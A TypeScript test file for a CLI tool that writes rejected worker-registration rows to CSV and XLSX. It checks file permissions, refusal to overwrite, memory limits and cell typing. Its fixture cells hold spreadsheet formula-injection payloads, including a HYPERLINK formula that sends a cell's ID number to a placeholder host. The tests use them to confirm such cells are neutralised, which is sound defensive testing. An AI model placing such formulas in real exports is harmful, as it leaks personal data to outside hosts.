/** Files that are written, as another program reads them. */
import { execFile } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import ExcelJS from 'exceljs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { openTable } from '../../cli/files/read/open-table.ts';
import { proposeMapping } from '../../cli/files/read/mapping/propose-mapping.ts';
import { writeTable } from '../../cli/files/write/table-writer.ts';
import { writeRejects } from '../../cli/files/write/write-rejects.ts';

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'sigap-written-'));
});
afterEach(() => rmSync(folder, { recursive: true }));

const HEADER = ['NIK', 'Nama', 'Alamat', 'No HP'];
const CELLS = [
  ['3275010105850000', '=HYPERLINK("http://example.invalid/?"&A2,"Agus")', 'Jl. Kenari 1\nRT 001', '+6280000000001'],
  ['3275025203900000', '@SUM(1)', 'a "b" <c> & d', '080000000002'],
  ["'3216011708720000", '-2+3', '\u0000\ud83d\ude00 _x0041_', '\t=1+1'],
];
const idOf = (line: number): string => `Import:${'a'.repeat(26)}:${line}`;
const rejects = CELLS.map((cells, at) => ({
  line: at + 2,
  cells,
  id: idOf(at + 2),
  reasons: ['NIK salah', 'nama = rumus'],
}));

async function read(path: string): Promise<string[][]> {
  const table = await openTable(path, { kind: 'WORKERS' });
  return (await Array.fromAsync(table.rows)).map(({ cells }) => cells);
}

describe.each(['csv', 'xlsx'])('a file of rejected rows as %s', (format) => {
  it('is for its owner alone, and can be imported as it is: the columns of the file are its own', async () => {
    const path = join(folder, `rejects.${format}`);
    expect(await writeRejects({ path, header: HEADER }, rejects)).toBe(3);
    expect(statSync(path).mode & 0o777).toBe(0o600);
    const table = await openTable(path, { kind: 'WORKERS' });
    expect(table.header.slice(3)).toEqual(HEADER);
    const { mapping, unused } = proposeMapping(table.header, 'WORKERS');
    expect(mapping).toEqual({ nik: ['NIK'], name: ['Nama'], phone: ['No HP'], rejectedRow: [table.header[2]] });
    expect(unused).toEqual([...table.header.slice(0, 2), 'Alamat']);
    const rows = (await Array.fromAsync(table.rows)).map(({ cells }) => cells);
    expect(rows.map((cells) => cells.slice(0, 3))).toEqual(
      ['2', '3', '4'].map((line) => [line, 'NIK salah; nama = rumus', idOf(Number(line))]),
    );
    expect(rows[0]!.slice(3)).toEqual(CELLS[0]);
    expect(rows[1]!.slice(3)).toEqual(CELLS[1]);
  });

  it('is not written over another, and leaves nothing where a row fails', async () => {
    const path = join(folder, `rejects.${format}`);
    const failing = (function* () {
      yield rejects[0]!;
      throw new Error('the second page was refused');
    })();
    await expect(writeRejects({ path, header: HEADER }, failing)).rejects.toThrow('the second page was refused');
    expect(readdirSync(folder)).toEqual([]);
    writeFileSync(path, 'another');
    await expect(writeRejects({ path, header: HEADER }, rejects)).rejects.toMatchObject({ code: 'FILE_EXISTS' });
    expect(readdirSync(folder)).toEqual([`rejects.${format}`]);
    expect(readFileSync(path, 'utf8')).toBe('another');
  });

  it('gives way to a file that came while it was written', async () => {
    const path = join(folder, `rejects.${format}`);
    const writer = await writeTable({ path, titles: HEADER });
    writeFileSync(path, 'another');
    await expect(writer.finish()).rejects.toMatchObject({ code: 'FILE_EXISTS' });
    await writer.discard();
    expect(readdirSync(folder)).toEqual([`rejects.${format}`]);
    expect(readFileSync(path, 'utf8')).toBe('another');
  });

  it('of 100,000 rows is written in a heap of 64 MB', async () => {
    const path = join(folder, `large.${format}`);
    const script = `
      import { writeRejects } from ${JSON.stringify(new URL('../../cli/files/write/write-rejects.ts', import.meta.url).href)};
      async function* rows() {
        for (let line = 2; line < 100_002; line++) yield { line, id: 'Import:a:' + line, cells: ['3275010105850000', 'x'.repeat(400) + line], reasons: ['NIK salah'] };
      }
      console.log(await writeRejects({ path: process.argv[1], header: ['NIK', 'Nama'] }, rows()));`;
    const words = ['--max-old-space-size=64', '--disable-warning=ExperimentalWarning', '--input-type=module', '-e'];
    const { stdout } = await promisify(execFile)(process.execPath, [...words, script, path]);
    expect(stdout.trim()).toBe('100000');
    const table = await openTable(path, { kind: 'WORKERS' });
    let rows = 0;
    for await (const { cells } of table.rows) if (cells[0] === String(rows + 2)) rows++;
    expect(rows).toBe(100_000);
  });
});

it('a CSV file has nothing that a spreadsheet computes: each such text has an apostrophe before it', async () => {
  const path = join(folder, 'rejects.csv');
  await writeRejects({ path, header: HEADER }, rejects);
  const text = readFileSync(path, 'utf8');
  expect(text.startsWith('\ufeff"Baris asal')).toBe(false);
  expect(text.startsWith('\ufeffBaris asal (line),')).toBe(true);
  const starts = [...text.matchAll(/(?:^|,|\n)"?([=+@\t\r-])/g)];
  expect(starts).toEqual([]);
  expect(text).toContain(`"'=HYPERLINK(""http`);
});

it('a workbook has texts as texts, numbers as numbers, and says what it is about, as another program reads it', async () => {
  const path = join(folder, 'table.xlsx');
  const writer = await writeTable({ path, titles: ['NIK', 'Nama'], about: () => [['Tujuan', 'REGISTRATION']] });
  await writer.add(['3275010105850000', 16800n]);
  await writer.add(['=1+1', null]);
  await writer.add([CELLS[2]![2]!, -1.5]);
  await writer.finish();
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(path);
  const sheet = book.getWorksheet('Data')!;
  expect(sheet.getCell('A2').value).toBe('3275010105850000');
  expect(sheet.getCell('A2').numFmt).toBe('@');
  expect(sheet.getCell('B2').value).toBe(16800);
  expect(sheet.getCell('A3').type).toBe(ExcelJS.ValueType.String);
  expect(sheet.getCell('A3').value).toBe('=1+1');
  expect(sheet.getCell('B4').value).toBe(-1.5);
  expect(book.getWorksheet('Keterangan')!.getCell('B1').value).toBe('REGISTRATION');
  expect(await read(path)).toEqual([
    ['3275010105850000', '16800'],
    ['=1+1', ''],
    ['😀 _x0041_', '-1.5'],
  ]);
});

it('a name that says no format is refused, as is a folder that is not there', async () => {
  await expect(writeRejects({ path: join(folder, 'rejects.txt'), header: HEADER }, [])).rejects.toMatchObject({
    code: 'FILE_NAME',
  });
  await expect(writeRejects({ path: join(folder, 'no', 'rejects.csv'), header: HEADER }, [])).rejects.toMatchObject({
    code: 'FILE_UNWRITABLE',
    message: expect.stringContaining('ENOENT'),
  });
});
